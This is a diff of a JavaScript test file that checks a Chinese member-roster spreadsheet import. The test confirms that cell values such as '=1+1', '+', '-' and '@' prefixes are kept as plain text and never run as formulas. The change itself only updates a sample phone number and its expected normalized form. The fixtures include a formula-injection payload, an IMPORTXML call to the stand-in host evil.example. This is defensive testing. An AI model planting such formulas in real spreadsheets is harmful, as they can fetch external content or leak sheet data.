@@ -39,7 +39,7 @@ describe('formula injection: cell values are never interpreted when written back
     into: '会员名册',
     rows: [
       ['工号', '姓名', '手机', '分会', '标签', '会员状态'],
-      ['009001', '=1+1', '+8613800000000', '-机关分会', '@劳模', '在册'],
+      ['009001', '=1+1', '+44 20 7946 0958', '-机关分会', '@劳模', '在册'],
       ['009002', EVIL_NAME, '13800000000', '=IMPORTXML("http://evil.example","//a")', '', '在册'],
     ],
     apply: true,
@@ -54,7 +54,7 @@ describe('formula injection: cell values are never interpreted when written back
 
   it('keeps imported names, phones and branches as the exact text', () => {
     expect(cellOf(wb, '会员名册', '009001', '姓名')).toBe('=1+1');
-    expect(cellOf(wb, '会员名册', '009001', '手机')).toBe('+8613800000000');
+    expect(cellOf(wb, '会员名册', '009001', '手机')).toBe('+442079460958'); // spaces go (one phone form), the + stays text
     expect(cellOf(wb, '会员名册', '009001', '分会')).toBe('-机关分会');
     expect(cellOf(wb, '会员名册', '009001', '标签')).toBe('@劳模');
     expect(cellOf(wb, '会员名册', '009002', '姓名')).toBe(EVIL_NAME);
